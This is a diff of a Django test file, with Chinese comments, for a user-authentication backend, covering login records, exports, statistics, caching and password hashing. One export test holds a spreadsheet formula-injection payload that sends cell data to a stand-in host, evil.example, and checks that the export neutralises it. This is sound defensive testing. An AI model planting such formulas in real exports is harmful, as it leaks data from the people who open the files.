@@ -2,14 +2,75 @@
 用户认证系统测试
 """
 
-from django.test import TestCase
+import csv
+import gzip
+import json
+import logging
+import os
+import queue
+import shutil
+import sqlite3
+import sys
+import tempfile
+import time
+from datetime import timedelta
+from io import BytesIO, StringIO
+
+from asgiref.sync import async_to_sync
+from django.conf import settings
+from django.core import mail
+from django.core.cache import caches
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.core.mail.backends.locmem import EmailBackend as LocMemEmailBackend
+from django.core.management import CommandError, call_command
+from django.db import DatabaseError, OperationalError, connection, connections, router, transaction
+from django.test.utils import CaptureQueriesContext
+from unittest import mock
+
+from django.test import AsyncRequestFactory, TestCase, TransactionTestCase, override_settings
 from django.contrib.auth.models import User
 from django.urls import reverse
-from rest_framework.test import APITestCase, APIClient
+from django.utils import timezone
+from rest_framework.renderers import JSONRenderer
+from rest_framework.test import APIClient, APIRequestFactory, APITestCase
 from rest_framework import status
 from rest_framework_simplejwt.tokens import RefreshToken
+from rest_framework_simplejwt.utils import get_md5_hash_password
+from PIL import Image
 
-from .models import UserProfile, LoginRecord
+from .models import (
+    BlacklistedToken, UserProfile, LoginDailyRollup, LoginRecord, LoginStats, OutboundEmail, UserAgent,
+)
+from .async_views import (
+    async_dashboard_stats_view, async_login_record_list_view, async_login_view, async_logout_view,
+    async_refresh_token_view, async_user_info_view,
+)
+from .authentication import get_user_cache
+from .avatars import AvatarProcessor, process_avatar, render_variants
+from .backends import identifier_queryset
+from .blacklist import (
+    DEFAULTS as BLACKLIST_DEFAULTS, DatabaseBlacklistStore, LocalBloomFilter, TokenBlacklist,
+    build_blacklist, is_blacklisted,
+)
+from .cache import LocMemResponseCache, get_response_cache
+from .client_ip import ClientIPResolver, parse_ip
+from .db import replica_reads
+from .export import export_rows, iter_csv
+from .hashers import TunedPBKDF2PasswordHasher
+from .importer import UserImporter, open_users
+from .mailer import OutboxDelivery, get_outbox_conf
+from .metrics import MetricsRegistry, RequestMetrics, RequestMetricsMiddleware, get_exporter, reset_exporter
+from .pagination import LoginRecordPagination
+from .password_pool import PasswordPool
+from .recorders import LoginRecordWriter
+from .retention import archive_login_records, retention_cutoff
+from .representations import login_record_rows, login_record_values, profile_representation, user_representation
+from .serializers import LoginRecordSerializer, UserProfileSerializer, UserSimpleSerializer
+from .stats import get_login_stats
+from .structured_logging import BoundedQueueHandler, JSONFormatter, RoutingQueueListener, SamplingFilter
+from .throttling import Throttled, get_login_throttle, sliding_count
+from .utils import send_password_reset_email, send_verification_email
+from .user_agents import UserAgentInterner, intern_user_agent, parse_user_agent
 
 
 class UserModelTest(TestCase):
@@ -92,7 +153,24 @@ class UserRegistrationAPITest(APITestCase):
         self.assertEqual(response.status_code, status.HTTP_400_BAD_REQUEST)
         self.assertIn('username', response.data)
 
+    def test_user_registration_duplicate_email_case_insensitive(self):
+        """测试只有大小写不同的邮箱视为重复"""
+        User.objects.create_user(username='existuser', email='Foo@Example.com')
+
+        data = {
+            'username': 'newuser',
+            'email': 'foo@example.com',
+            'password': 'newpass123',
+            'password_confirm': 'newpass123'
+        }
+        response = self.client.post(self.register_url, data)
+
+        self.assertEqual(response.status_code, status.HTTP_400_BAD_REQUEST)
+        self.assertEqual(response.data['email'], ['邮箱已被注册'])
+        self.assertFalse(User.objects.filter(username='newuser').exists())
 
+
+@override_settings(LOGIN_RECORD_ASYNC=False)
 class UserLoginAPITest(APITestCase):
     """用户登录API测试"""
     
@@ -141,6 +219,15 @@ class UserLoginAPITest(APITestCase):
         
         self.assertEqual(response.status_code, status.HTTP_400_BAD_REQUEST)
         self.assertEqual(response.data['message'], '登录失败')
+
+    def test_wrong_password_counts_as_user_failure(self):
+        """测试已有账号（用户名或邮箱）密码错误时记录关联到用户并计入失败次数"""
+        self.client.post(self.login_url, {'username': 'testuser', 'password': 'wrongpass'})
+        self.client.post(self.login_url, {'username': self.user.email.upper(), 'password': 'wrongpass'})
+
+        records = LoginRecord.objects.filter(is_successful=False)
+        self.assertEqual([record.user_id for record in records], [self.user.pk, self.user.pk])
+        self.assertEqual(get_login_stats(self.user)['failed_logins'], 2)
     
     def test_user_login_nonexistent_user(self):
         """测试用户不存在"""
@@ -153,6 +240,15 @@ class UserLoginAPITest(APITestCase):
         self.assertEqual(response.status_code, status.HTTP_400_BAD_REQUEST)
         self.assertEqual(response.data['message'], '登录失败')
 
+    def test_failed_login_of_unknown_user_is_recorded(self):
+        """测试未知用户的失败登录也会被记录"""
+        self.client.post(self.login_url, {'username': 'ghost', 'password': 'x'})
+
+        record = LoginRecord.objects.get()
+        self.assertIsNone(record.user)
+        self.assertEqual(record.username, 'ghost')
+        self.assertFalse(record.is_successful)
+
 
 class UserProfileAPITest(APITestCase):
     """用户资料API测试"""
@@ -213,7 +309,7 @@ class LoginRecordTest(TestCase):
         record = LoginRecord.objects.create(
             user=self.user,
             ip_address='127.0.0.1',
-            user_agent='Test Browser',
+            user_agent=intern_user_agent('Test Browser'),
             is_successful=True
         )
         
@@ -226,7 +322,7 @@ class LoginRecordTest(TestCase):
         record = LoginRecord.objects.create(
             user=self.user,
             ip_address='127.0.0.1',
-            user_agent='Test Browser',
+            user_agent=intern_user_agent('Test Browser'),
             is_successful=True
         )
         
@@ -234,6 +330,2061 @@ class LoginRecordTest(TestCase):
         self.assertEqual(str(record), expected)
 
 
+class LoginRecordWriterTest(TransactionTestCase):
+    """缓冲式登录记录写入器测试"""
+
+    def setUp(self):
+        """测试准备"""
+        self.user = User.objects.create_user(username='testuser', password='testpass123')
+
+    def _record(self, user=None, **kwargs):
+        return LoginRecord(user=user, ip_address='127.0.0.1', **kwargs)
+
+    def test_flush_writes_buffered_records(self):
+        """测试手动刷写会批量写入缓冲区中的记录"""
+        writer = LoginRecordWriter(batch_size=100, flush_interval=3600)
+        writer.submit(self._record(self.user))
+        writer.submit(self._record(None, username='ghost', is_successful=False))
+        self.assertEqual(writer.pending(), 2)
+
+        self.assertEqual(writer.flush(), 2)
+        self.assertEqual(writer.pending(), 0)
+        self.assertEqual(LoginRecord.objects.count(), 2)
+        writer.shutdown()
+
+    def test_shutdown_flushes_pending_records(self):
+        """测试关闭时会刷写剩余记录"""
+        writer = LoginRecordWriter(batch_size=100, flush_interval=3600)
+        for _ in range(3):
+            writer.submit(self._record(self.user))
+        writer.shutdown(timeout=5)
+
+        self.assertEqual(LoginRecord.objects.count(), 3)
+
+    def test_max_buffer_drops_oldest(self):
+        """测试缓冲区溢出时丢弃最旧的记录"""
+        writer = LoginRecordWriter(batch_size=100, flush_interval=3600, max_buffer=2)
+        for reason in ('a', 'b', 'c'):
+            writer.submit(self._record(self.user, failure_reason=reason))
+        self.assertEqual(writer.dropped, 1)
+        writer.shutdown(timeout=5)
+
+        reasons = set(LoginRecord.objects.values_list('failure_reason', flat=True))
+        self.assertEqual(reasons, {'b', 'c'})
+
+    def test_bad_record_does_not_drop_batch(self):
+        """测试个别记录违反约束时逐条写入，只丢弃出错的记录"""
+        writer = LoginRecordWriter(batch_size=100, flush_interval=3600)
+        writer.submit(self._record(self.user, failure_reason='a'))
+        writer.submit(LoginRecord(user=self.user, ip_address=None, failure_reason='null-ip'))
+        writer.submit(self._record(User(pk=999999), failure_reason='missing-user'))
+        writer.submit(self._record(self.user, failure_reason='b'))
+
+        self.assertEqual(writer.flush(), 2)
+        self.assertEqual(writer.dropped, 2)
+        reasons = set(LoginRecord.objects.values_list('failure_reason', flat=True))
+        self.assertEqual(reasons, {'a', 'b'})
+        self.assertEqual(get_login_stats(self.user)['total_logins'], 2)
+        writer.shutdown()
+
+    def test_database_error_requeues_with_backoff(self):
+        """测试数据库暂时不可用时记录放回缓冲区，退避后重试成功"""
+        writer = LoginRecordWriter(batch_size=100, flush_interval=3600, max_buffer=3)
+        for reason in ('a', 'b'):
+            writer.submit(self._record(self.user, failure_reason=reason))
+        with mock.patch.object(LoginRecord.objects, 'bulk_create', side_effect=OperationalError('database is locked')):
+            self.assertEqual(writer.flush(), 0)
+        self.assertEqual(writer.pending(), 2)
+        self.assertEqual(writer.failures, 1)
+
+        # 退避期间不写入；新记录继续进入缓冲区，总数仍受 max_buffer 限制
+        writer.submit(self._record(self.user, failure_reason='c'))
+        writer.submit(self._record(self.user, failure_reason='d'))
+        self.assertEqual(writer.flush(), 0)
+        self.assertEqual(writer.pending(), 3)
+        self.assertEqual(writer.dropped, 1)
+
+        writer._retry_at = 0
+        self.assertEqual(writer.flush(), 3)
+        self.assertEqual(writer.failures, 0)
+        reasons = set(LoginRecord.objects.values_list('failure_reason', flat=True))
+        self.assertEqual(reasons, {'b', 'c', 'd'})
+        writer.shutdown()
+
+
+class LoginRecordQueryPlanTest(TestCase):
+    """登录记录查询执行计划测试"""
+
+    def test_login_record_queries_use_indexes(self):
+        """测试列表、仪表板和后台查询都不会全表扫描"""
+        call_command('explain_login_queries', stdout=StringIO())
+
+    def test_full_scan_detection(self):
+        """测试能识别 SQLite 全表扫描"""
+        from .management.commands.explain_login_queries import find_full_scans
+
+        plan = ['SCAN login_record', 'SEARCH auth_user USING INTEGER PRIMARY KEY (rowid=?)']
+        self.assertEqual(find_full_scans(plan, 'login_record', 'sqlite'), ['SCAN login_record'])
+        plan = ['SCAN login_record USING INDEX login_rec_time_idx']
+        self.assertEqual(find_full_scans(plan, 'login_record', 'sqlite'), [])
+
+
+class LoginRecordPaginationTest(APITestCase):
+    """登录记录分页测试"""
+
+    def setUp(self):
+        """测试准备"""
+        self.user = User.objects.create_user(username='testuser', password='testpass123')
+        refresh = RefreshToken.for_user(self.user)
+        self.client.credentials(HTTP_AUTHORIZATION=f'Bearer {refresh.access_token}')
+        self.url = reverse('accounts:login-records')
+        now = timezone.now()
+        # 每两条记录登录时间相同，检验 id 作为第二排序键
+        LoginRecord.objects.bulk_create([
+            LoginRecord(user=self.user, ip_address='127.0.0.1', login_time=now - timedelta(minutes=i // 2))
+            for i in range(45)
+        ])
+        self.expected = list(LoginRecord.objects.order_by('-login_time', '-id').values_list('id', flat=True))
+
+    def _walk(self, url, key):
+        ids = []
+        while url:
+            response = self.client.get(url)
+            self.assertEqual(response.status_code, status.HTTP_200_OK)
+            ids.extend(record['id'] for record in response.data['results'])
+            url = response.data[key]
+        return ids
+
+    def test_page_number_by_default(self):
+        """测试默认仍是页码分页"""
+        response = self.client.get(self.url)
+        self.assertEqual(response.data['count'], 45)
+
+    def test_keyset_walk(self):
+        """测试键集分页遍历全部记录，不重复、不遗漏、不计数"""
+        with CaptureQueriesContext(connection) as ctx:
+            response = self.client.get(self.url, {'paginate': 'cursor'})
+        self.assertEqual(list(response.data), ['count', 'next', 'previous', 'results'])
+        self.assertIsNone(response.data['count'])
+        self.assertIsNone(response.data['previous'])
+        self.assertFalse(any('COUNT(' in q['sql'] for q in ctx))
+        self.assertEqual(self._walk(f'{self.url}?paginate=cursor', 'next'), self.expected)
+
+    def test_keyset_previous(self):
+        """测试从最后一页向前翻页"""
+        url = f'{self.url}?paginate=cursor'
+        while True:
+            response = self.client.get(url)
+            if not response.data['next']:
+                break
+            url = response.data['next']
+        ids = [record['id'] for record in response.data['results']]
+        pages = [ids]
+        url = response.data['previous']
+        while url:
+            response = self.client.get(url)
+            pages.insert(0, [record['id'] for record in response.data['results']])
+            url = response.data['previous']
+        self.assertEqual(sum(pages, []), self.expected)
+
+    def test_invalid_cursor(self):
+        """测试无效游标返回 404"""
+        response = self.client.get(self.url, {'cursor': 'not-a-cursor'})
+        self.assertEqual(response.status_code, status.HTTP_404_NOT_FOUND)
+
+    def test_admin_changelist_skips_full_count(self):
+        """测试后台列表不做全表计数"""
+        self.user.is_staff = self.user.is_superuser = True
+        self.user.save()
+        self.client.force_login(self.user)
+        with self.settings(LOGIN_RECORD_ADMIN_COUNT_LIMIT=10), CaptureQueriesContext(connection) as ctx:
+            response = self.client.get(reverse('admin:accounts_loginrecord_changelist'))
+        self.assertEqual(response.status_code, 200)
+        counts = [q['sql'] for q in ctx if 'COUNT(' in q['sql'] and 'login_record' in q['sql']]
+        self.assertEqual(len(counts), 1)
+        self.assertIn('LIMIT 10', counts[0])
+
+
+class LoginRecordExportTest(APITestCase):
+    """登录记录导出测试"""
+
+    def setUp(self):
+        """测试准备"""
+        self.user = User.objects.create_user(username='testuser', password='testpass123')
+        self.other = User.objects.create_user(username='other', password='testpass123')
+        now = timezone.now()
+        LoginRecord.objects.create(user=self.user, ip_address='127.0.0.1', login_time=now - timedelta(days=10))
+        LoginRecord.objects.create(user=self.user, ip_address='127.0.0.2', is_successful=False,
+                                   failure_reason='密码错误',
+                                   user_agent=intern_user_agent('Mozilla/5.0, "quoted"'))
+        LoginRecord.objects.create(user=self.other, ip_address='10.0.0.1')
+        LoginRecord.objects.create(username='ghost', ip_address='10.0.0.2', is_successful=False)
+        self.url = reverse('accounts:login-records-export')
+        refresh = RefreshToken.for_user(self.user)
+        self.client.credentials(HTTP_AUTHORIZATION=f'Bearer {refresh.access_token}')
+
+    def _content(self, response):
+        self.assertTrue(response.streaming)
+        return b''.join(response.streaming_content).decode('utf-8')
+
+    def test_csv_export_own_records(self):
+        """测试普通用户只能导出自己的记录，CSV 字段与接口一致"""
+        response = self.client.get(self.url, {'user': self.other.pk})
+        self.assertEqual(response.status_code, status.HTTP_200_OK)
+        self.assertIn('attachment', response['Content-Disposition'])
+        rows = list(csv.DictReader(StringIO(self._content(response))))
+        self.assertEqual(len(rows), 2)
+        self.assertEqual(tuple(rows[0]), LoginRecordSerializer.Meta.fields)
+        self.assertEqual(rows[1]['user_agent'], 'Mozilla/5.0, "quoted"')
+
+        api = self.client.get(reverse('accounts:login-records')).data['results']
+        self.assertEqual(rows[1]['login_time'], api[0]['login_time'])
+
+    def test_csv_neutralizes_formulas(self):
+        """测试 CSV 中以公式字符开头的用户名和 UA 加单引号前缀"""
+        agent = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+        LoginRecord.objects.create(user=self.user, ip_address='127.0.0.3',
+                                   user_agent=intern_user_agent(agent))
+        LoginRecord.objects.create(username='@SUM(1+1)', ip_address='127.0.0.4', is_successful=False)
+        rows = list(csv.DictReader(StringIO(''.join(iter_csv(export_rows())))))
+        self.assertEqual(rows[-2]['user_agent'], "'" + agent)
+        self.assertEqual(rows[-1]['username'], "'@SUM(1+1)")
+        self.assertEqual(rows[0]['username'], 'testuser')
+
+    def test_ndjson_export_with_filters(self):
+        """测试 NDJSON 导出和成功标记、时间范围过滤"""
+        response = self.client.get(self.url, {
+            'export_format': 'ndjson', 'is_successful': 'false',
+            'start': timezone.localdate().isoformat(),
+        })
+        lines = [json.loads(line) for line in self._content(response).splitlines()]
+        self.assertEqual([line['failure_reason'] for line in lines], ['密码错误'])
+
+    def test_staff_export_all(self):
+        """测试管理员可以导出全部用户的记录"""
+        self.user.is_staff = True
+        self.user.save()
+        response = self.client.get(self.url, {'export_format': 'ndjson'})
+        lines = [json.loads(line) for line in self._content(response).splitlines()]
+        self.assertEqual(len(lines), 4)
+        self.assertEqual(lines[-1]['username'], 'ghost')
+
+    def test_invalid_params(self):
+        """测试无效的格式和时间返回 400"""
+        self.assertEqual(self.client.get(self.url, {'export_format': 'xml'}).status_code, 400)
+        self.assertEqual(self.client.get(self.url, {'start': 'yesterday'}).status_code, 400)
+
+    def test_export_command(self):
+        """测试导出命令按块读取并写入文件"""
+        with tempfile.TemporaryDirectory() as tmp:
+            path = f'{tmp}/records.csv'
+            call_command('export_login_records', '--output', path, '--failed', '--chunk-size', '1',
+                         stderr=StringIO())
+            with open(path, encoding='utf-8') as f:
+                rows = list(csv.DictReader(f))
+        self.assertEqual([row['username'] for row in rows], ['testuser', 'ghost'])
+
+
+class LoginStatsTest(APITestCase):
+    """登录统计测试"""
+
+    def setUp(self):
+        """测试准备"""
+        self.user = User.objects.create_user(username='testuser', password='testpass123')
+        self.dashboard_url = reverse('accounts:dashboard-stats')
+        refresh = RefreshToken.for_user(self.user)
+        self.client.credentials(HTTP_AUTHORIZATION=f'Bearer {refresh.access_token}')
+
+    def _create_records(self):
+        for is_successful in (True, True, False):
+            LoginRecord.objects.create(user=self.user, ip_address='127.0.0.1', is_successful=is_successful)
+        LoginRecord.objects.create(
+            user=self.user, ip_address='127.0.0.1',
+            login_time=timezone.now() - timedelta(days=60)
+        )
+
+    def test_counters_updated_on_write(self):
+        """测试写入登录记录时增量更新统计行"""
+        self._create_records()
+        stats = LoginStats.objects.get(user=self.user)
+        self.assertEqual(stats.as_dict(), {
+            'total_logins': 4, 'recent_logins': 3,
+            'successful_logins': 3, 'failed_logins': 1,
+        })
+
+    def test_batched_writes_update_counters(self):
+        """测试批量写入也会更新统计行"""
+        writer = LoginRecordWriter(batch_size=100, flush_interval=3600)
+        writer._write([
+            LoginRecord(user=self.user, ip_address='127.0.0.1'),
+            LoginRecord(user=self.user, ip_address='127.0.0.1', is_successful=False),
+        ])
+        self.assertEqual(LoginStats.objects.get(user=self.user).total_logins, 2)
+
+    def test_dashboard_reads_single_row(self):
+        """测试仪表板统计只读取一行统计数据"""
+        self._create_records()
+        with self.assertNumQueries(3):  # 用户、统计行、用户资料
+            response = self.client.get(self.dashboard_url)
+        self.assertEqual(response.data['login_stats']['total_logins'], 4)
+
+    def test_aggregate_fallback_matches_counters(self):
+        """测试聚合查询（原始记录、每日汇总各一条）与增量统计结果一致"""
+        self._create_records()
+        expected = LoginStats.objects.get(user=self.user).as_dict()
+        with self.settings(LOGIN_STATS_USE_COUNTERS=False), self.assertNumQueries(2):
+            stats = get_login_stats(self.user)
+        self.assertEqual(stats, expected)
+
+    def test_rebuild_command(self):
+        """测试重建命令根据原始记录重新计算统计"""
+        self._create_records()
+        expected = LoginStats.objects.get(user=self.user).as_dict()
+        LoginStats.objects.filter(user=self.user).update(total_logins=0, recent_daily={})
+
+        call_command('rebuild_login_stats', stdout=StringIO())
+        self.assertEqual(LoginStats.objects.get(user=self.user).as_dict(), expected)
+
+
+class LoginRecordRetentionTest(TestCase):
+    """登录记录保留与归档测试"""
+
+    def setUp(self):
+        """测试准备"""
+        self.user = User.objects.create_user(username='testuser', password='testpass123')
+        now = timezone.now()
+        for days, is_successful in ((400, True), (400, False), (200, True), (1, True)):
+            LoginRecord.objects.create(
+                user=self.user, ip_address='127.0.0.1', is_successful=is_successful,
+                login_time=now - timedelta(days=days)
+            )
+        LoginRecord.objects.create(
+            username='ghost', ip_address='127.0.0.1', is_successful=False,
+            login_time=now - timedelta(days=400)
+        )
+        self.expected = LoginStats.objects.get(user=self.user).as_dict()
+
+    def test_archive_moves_rows_in_batches(self):
+        """测试按批归档过期记录，写入每日汇总和按月的归档文件"""
+        with tempfile.TemporaryDirectory() as archive_dir:
+            result = archive_login_records(retention_cutoff(180), batch_size=2, archive_dir=archive_dir)
+            self.assertEqual(result['archived'], 4)
+            self.assertEqual(LoginRecord.objects.count(), 1)
+
+            lines = []
+            for path in result['files']:
+                with gzip.open(path, 'rt', encoding='utf-8') as f:
+                    lines.extend(json.loads(line) for line in f)
+            self.assertEqual(len(lines), 4)
+            self.assertEqual({line['username'] for line in lines}, {'', 'ghost'})
+
+        self.assertEqual(
+            sorted(LoginDailyRollup.objects.values_list('total_logins', 'successful_logins', 'failed_logins')),
+            [(1, 1, 0), (2, 1, 1)]
+        )
+
+    def test_stats_survive_archival(self):
+        """测试归档后统计数字不变，重建也包含已归档的部分"""
+        archive_login_records(retention_cutoff(180), archive_dir=None)
+
+        with self.settings(LOGIN_STATS_USE_COUNTERS=False):
+            self.assertEqual(get_login_stats(self.user), self.expected)
+        LoginStats.objects.all().delete()
+        call_command('rebuild_login_stats', stdout=StringIO())
+        self.assertEqual(LoginStats.objects.get(user=self.user).as_dict(), self.expected)
+
+    def test_retention_shorter_than_recent_window_rejected(self):
+        """测试保留期不能短于近期统计窗口"""
+        with self.assertRaises(CommandError):
+            call_command('archive_login_records', '--days', '7', stdout=StringIO())
+
+    def test_dry_run(self):
+        """测试 --dry-run 只统计不删除"""
+        out = StringIO()
+        call_command('archive_login_records', '--days', '180', '--dry-run', stdout=out)
+        self.assertIn('4', out.getvalue())
+        self.assertEqual(LoginRecord.objects.count(), 5)
+
+
+class ResponseCacheTest(APITestCase):
+    """接口响应缓存测试"""
+
+    def setUp(self):
+        """测试准备"""
+        get_response_cache().clear()
+        self.user = User.objects.create_user(
+            username='testuser',
+            email='test@example.com',
+            password='testpass123'
+        )
+        refresh = RefreshToken.for_user(self.user)
+        self.client.credentials(HTTP_AUTHORIZATION=f'Bearer {refresh.access_token}')
+
+    def test_invalidation_during_build_discards_fill(self):
+        """测试 build 期间用户数据失效时，build 读到的旧数据不写回缓存"""
+        cache = get_response_cache()
+        key = cache.make_key(self.user.pk, 'me')
+
+        def build():
+            cache.invalidate(self.user.pk)
+            return {'bio': '旧数据'}
+
+        async def abuild():
+            return build()
+
+        self.assertEqual(cache.get_or_set(self.user.pk, 'me', build), {'bio': '旧数据'})
+        self.assertIsNone(cache._get(key))
+        self.assertEqual(async_to_sync(cache.aget_or_set)(self.user.pk, 'me', abuild), {'bio': '旧数据'})
+        self.assertIsNone(cache._get(key))
+
+        cache.get_or_set(self.user.pk, 'me', lambda: {'bio': '新数据'})
+        self.assertEqual(cache.get_or_set(self.user.pk, 'me', build), {'bio': '新数据'})
+
+    def test_me_is_served_from_cache(self):
+        """测试 /me/ 第二次请求命中缓存"""
+        url = reverse('accounts:user-info')
+        first = self.client.get(url)
+        with self.assertNumQueries(0):  # 用户来自认证缓存，响应来自响应缓存
+            second = self.client.get(url)
+        self.assertEqual(first.content, second.content)
+        stats = get_response_cache().stats()
+        self.assertEqual((stats['hits'], stats['misses']), (1, 1))
+
+    def test_profile_update_invalidates_cache(self):
+        """测试更新资料后缓存失效"""
+        url = reverse('accounts:user-profile')
+        self.client.get(url)
+        self.client.patch(url, {'bio': '新的简介', 'first_name': '新'})
+
+        response = self.client.get(url)
+        self.assertEqual(response.data['bio'], '新的简介')
+        self.assertEqual(response.data['first_name'], '新')
+
+    def test_lru_eviction_and_ttl(self):
+        """测试 LRU 淘汰和过期"""
+        cache = LocMemResponseCache(max_entries=2, ttl=60)
+        cache.get_or_set(1, 'me', lambda: {'id': 1})
+        cache.get_or_set(2, 'me', lambda: {'id': 2})
+        cache.get_or_set(1, 'me', lambda: {'id': -1})  # 命中，1 变为最近使用
+        cache.get_or_set(3, 'me', lambda: {'id': 3})  # 淘汰 2
+        self.assertEqual(cache.get_or_set(2, 'me', lambda: {'id': 'new'}), {'id': 'new'})
+        self.assertEqual(cache.stats()['evictions'], 2)
+
+        cache.ttl = -1
+        cache.get_or_set(4, 'me', lambda: {'id': 4})
+        self.assertEqual(cache.get_or_set(4, 'me', lambda: {'id': 'fresh'}), {'id': 'fresh'})
+
+
+@override_settings(LOGIN_RECORD_ASYNC=False)
+class QueryCountRegressionTest(APITestCase):
+    """关键接口的 SQL 语句数回归测试"""
+
+    password = 'Regress1on!pass'
+
+    def setUp(self):
+        """测试准备"""
+        get_response_cache().clear()
+        self.user = User.objects.create_user(
+            username='testuser',
+            email='test@example.com',
+            password=self.password
+        )
+
+    def _authenticate(self):
+        refresh = RefreshToken.for_user(self.user)
+        self.client.credentials(HTTP_AUTHORIZATION=f'Bearer {refresh.access_token}')
+        return refresh
+
+    @staticmethod
+    def _writes(queries, table):
+        """统计对某张表的写语句数"""
+        return sum(
+            1 for q in queries
+            if q['sql'].startswith(('INSERT', 'UPDATE', 'DELETE')) and f'"{table}"' in q['sql'].split('(')[0]
+        )
+
+    def test_register_queries(self):
+        """注册：用户名、邮箱唯一性检查各一次，用户和用户资料各写一次"""
+        data = {
+            'username': 'newuser',
+            'email': 'newuser@example.com',
+            'password': self.password,
+            'password_confirm': self.password,
+        }
+        with CaptureQueriesContext(connection) as ctx:
+            response = self.client.post(reverse('accounts:user-register'), data)
+        self.assertEqual(response.status_code, status.HTTP_201_CREATED)
+        self.assertEqual(len(ctx), 6)
+        self.assertEqual(self._writes(ctx, 'auth_user'), 1)
+        self.assertEqual(self._writes(ctx, 'user_profile'), 1)
+
+    def test_login_queries(self):
+        """登录：auth_user 只写一次 last_login，不写 user_profile"""
+        data = {'username': 'testuser', 'password': self.password}
+        with CaptureQueriesContext(connection) as ctx:
+            response = self.client.post(reverse('accounts:user-login'), data)
+        self.assertEqual(response.status_code, status.HTTP_200_OK)
+        self.assertEqual(len(ctx), 8)
+        self.assertEqual(self._writes(ctx, 'auth_user'), 1)
+        self.assertEqual(self._writes(ctx, 'user_profile'), 0)
+
+    def test_profile_update_queries(self):
+        """资料更新：只写 user_profile，不重复加载用户"""
+        self._authenticate()
+        with CaptureQueriesContext(connection) as ctx:
+            response = self.client.patch(reverse('accounts:user-profile'), {'bio': '简介'})
+        self.assertEqual(response.status_code, status.HTTP_200_OK)
+        self.assertEqual(len(ctx), 5)
+        self.assertEqual(self._writes(ctx, 'auth_user'), 0)
+        self.assertEqual(self._writes(ctx, 'user_profile'), 1)
+
+    def test_logout_queries(self):
+        """注销：只有认证时加载用户一次"""
+        self._authenticate()
+        with self.assertNumQueries(1):
+            self.client.post(reverse('accounts:user-logout'))
+
+
+@override_settings(LOGIN_RECORD_ASYNC=False)
+class PasswordHashPolicyTest(APITestCase):
+    """密码哈希策略测试"""
+
+    def _login(self):
+        return self.client.post(
+            reverse('accounts:user-login'),
+            {'username': 'testuser', 'password': 'testpass123'}
+        )
+
+    def test_rehash_on_login_when_work_factor_changes(self):
+        """测试调整迭代次数后，下一次登录成功时自动重新哈希"""
+        with self.settings(PASSWORD_HASH_PBKDF2_ITERATIONS=1000):
+            user = User.objects.create_user(username='testuser', password='testpass123')
+        self.assertTrue(user.password.startswith('pbkdf2_sha256$1000$'))
+
+        with self.settings(PASSWORD_HASH_PBKDF2_ITERATIONS=2000):
+            self.assertEqual(self._login().status_code, status.HTTP_200_OK)
+        user.refresh_from_db()
+        self.assertTrue(user.password.startswith('pbkdf2_sha256$2000$'))
+
+    def test_rehash_on_login_when_policy_changes(self):
+        """测试切换到 Argon2 策略后，旧的 PBKDF2 哈希在登录时升级"""
+        with self.settings(PASSWORD_HASH_PBKDF2_ITERATIONS=1000):
+            user = User.objects.create_user(username='testuser', password='testpass123')
+
+        hashers = [
+            'accounts.hashers.TunedArgon2PasswordHasher',
+            'accounts.hashers.TunedPBKDF2PasswordHasher',
+        ]
+        with self.settings(PASSWORD_HASHERS=hashers, PASSWORD_HASH_ARGON2_MEMORY_COST=1024,
+                           PASSWORD_HASH_ARGON2_PARALLELISM=1):
+            self.assertEqual(self._login().status_code, status.HTTP_200_OK)
+            user.refresh_from_db()
+            self.assertTrue(user.password.startswith('argon2$'))
+            self.assertTrue(user.check_password('testpass123'))
+
+    def test_benchmark_command(self):
+        """测试哈希基准命令输出每个候选配置"""
+        out = StringIO()
+        call_command(
+            'benchmark_hashers', '--pbkdf2', '1000', '--argon2', '1:1024:1',
+            '--rounds', '1', '--json', stdout=out
+        )
+        names = [r['name'] for r in json.loads(out.getvalue())['results']]
+        self.assertIn('pbkdf2_sha256 iterations=1000', names)
+        self.assertIn('argon2 t=1 m=1024 p=1', names)
+
+
+@override_settings(LOGIN_RECORD_ASYNC=False)
+class AsyncLoginViewTest(TestCase):
+    """进程池密码校验的异步登录视图测试"""
+
+    @classmethod
+    def setUpClass(cls):
+        super().setUpClass()
+        cls.pool = PasswordPool(max_workers=1)
+
+    @classmethod
+    def tearDownClass(cls):
+        cls.pool.shutdown()
+        super().tearDownClass()
+
+    def setUp(self):
+        """测试准备"""
+        self.user = User.objects.create_user(
+            username='testuser',
+            email='test@example.com',
+            password='testpass123'
+        )
+        self.factory = AsyncRequestFactory()
+
+    async def _login(self, pool, **data):
+        request = self.factory.post('/api/auth/login/', data, content_type='application/json')
+        with mock.patch('accounts.async_views.get_password_pool', return_value=pool):
+            response = await async_login_view(request)
+        return response.status_code, json.loads(response.content)
+
+    async def test_login_with_email(self):
+        """测试使用邮箱登录成功"""
+        code, body = await self._login(self.pool, username='test@example.com', password='testpass123')
+        self.assertEqual(code, status.HTTP_200_OK)
+        self.assertEqual(body['message'], '登录成功')
+        self.assertEqual(body['user']['username'], 'testuser')
+        self.assertIn('access', body['tokens'])
+
+    async def test_wrong_password_and_unknown_user(self):
+        """测试密码错误和用户不存在都返回登录失败"""
+        for username in ('testuser', 'nobody'):
+            code, body = await self._login(self.pool, username=username, password='wrongpass')
+            self.assertEqual(code, status.HTTP_400_BAD_REQUEST)
+            self.assertEqual(body['message'], '登录失败')
+        self.assertEqual(await LoginRecord.objects.filter(is_successful=False).acount(), 2)
+        # 密码错误的记录关联到已有用户，未知用户的记录不关联
+        self.assertEqual(
+            await LoginRecord.objects.filter(is_successful=False, user=self.user).acount(), 1
+        )
+
+    async def test_sheds_load_when_queue_is_full(self):
+        """测试排队已满时返回 503"""
+        code, body = await self._login(
+            PasswordPool(max_workers=1, max_pending=0),
+            username='testuser', password='testpass123'
+        )
+        self.assertEqual(code, status.HTTP_503_SERVICE_UNAVAILABLE)
+
+
+@override_settings(ACCOUNTS_RESPONSE_CACHE={'ENABLED': False})
+class AsyncViewsTest(APITestCase):
+    """ASGI 部署使用的异步视图测试：响应与同步视图逐字节一致"""
+
+    def setUp(self):
+        """测试准备"""
+        self.user = User.objects.create_user(
+            username='testuser',
+            email='test@example.com',
+            password='testpass123'
+        )
+        UserProfile.objects.filter(user=self.user).update(bio='简介')
+        agent = intern_user_agent('Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0 Safari/537.36')
+        now = timezone.now()
+        LoginRecord.objects.bulk_create([
+            LoginRecord(user=self.user, ip_address='127.0.0.1', user_agent=agent,
+                        login_time=now - timedelta(minutes=i), is_successful=i % 3 != 0)
+            for i in range(25)
+        ])
+        self.refresh = RefreshToken.for_user(self.user)
